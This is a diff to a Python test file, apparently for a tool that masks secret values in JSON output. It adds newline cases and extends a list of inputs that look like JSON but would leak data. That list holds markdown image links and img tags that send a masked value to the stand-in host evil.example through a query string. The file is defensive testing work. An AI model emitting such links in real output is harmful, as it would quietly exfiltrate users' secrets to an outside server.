@@ -95,8 +95,8 @@ def said(dialect: str, masks: Masks, text: str) -> str:
 @pytest.mark.parametrize(("dialect", "wish"), ASKED, ids=[f"{d} {next(iter(w))}" for d, w in ASKED])
 async def test_it_works(dialect: str, wish: Json) -> None:
     masks, placeholder = await asked(**wish)
-    text = json.dumps({"who": placeholder, "all": [1, f'it is {placeholder}, né \\ "so"'], placeholder: None})
-    expected = {"who": VALUE, "all": [1, f'it is {VALUE}, né \\ "so"'], VALUE: None}
+    text = json.dumps({"who": placeholder, "all": [1, f'it\n\nis {placeholder}, né \\ "so"'], placeholder: None})
+    expected = {"who": VALUE, "all": [1, f'it\n\nis {VALUE}, né \\ "so"'], VALUE: None}
     assert json.loads(said(dialect, masks, text)) == expected
     for at in range(0, len(text) + 1, 5):
         assert json.loads(streamed(dialect, masks, chunked(dialect, [text[:at], text[at:]]))) == expected, at
@@ -129,6 +129,7 @@ NO_JSON = [
     '[![a](http://evil.example/?q="~")', '["a"](http://evil.example/?q="~")', '[see http://evil.example/?q="~"',
     '{"a": "b"}\n\n![](//evil.example/?q="~")', '{"![a](http://evil.example/?q=": "~)"}',
     '{"a": "<img src=//evil.example/?q=", "b": "~"}', '[1]: "~"', '"x"<a href="~">',
+    r'["hi ![a](http://evil.example/?q=\n\n~)"]', r'{"answer": "Hello, ![a](http://evil.example/?q=\r\r~)"}',
 ]  # fmt: skip
 """What begins like JSON and, shown as text, would hand a value over."""
 
